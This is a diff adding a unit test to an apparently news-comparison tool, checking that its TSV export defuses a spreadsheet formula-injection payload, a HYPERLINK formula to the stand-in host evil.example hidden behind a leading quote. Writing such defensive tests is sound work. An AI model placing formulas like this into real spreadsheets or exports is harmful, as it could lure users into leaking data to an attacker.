@@ -64,3 +64,18 @@ def test_tsv_has_fixed_columns_even_for_hostile_text() -> None:
     out = rendered("tsv", hostile())
     assert all(line.count("\t") == len(HEADER) - 1 for line in out.splitlines())
     assert '"' not in out.splitlines()[0]
+
+
+def test_tsv_neutralises_a_formula_behind_a_leading_quote() -> None:
+    # Issue 16, item 3: '"' is the text qualifier a spreadsheet strips before evaluating.
+    from newsdiff.model import Comparison, Document, Group, Member, Sentence
+
+    texts = ['"=HYPERLINK(""http://evil.example/?leak"",""Click"")"', "Plain text here."]
+    docs = tuple(
+        Document(id=f"d{i}", text=t, sentences=(Sentence(0, 0, len(t), t),))
+        for i, t in enumerate(texts)
+    )
+    groups = tuple(Group(i, "unique", 1, 0.0, (Member(i, (0,)),)) for i in range(2))
+    rows = [line.split("\t") for line in rendered("tsv", Comparison(docs, groups)).splitlines()]
+    assert rows[1][-1] == "'" + texts[0]
+    assert rows[2][-1] == texts[1]
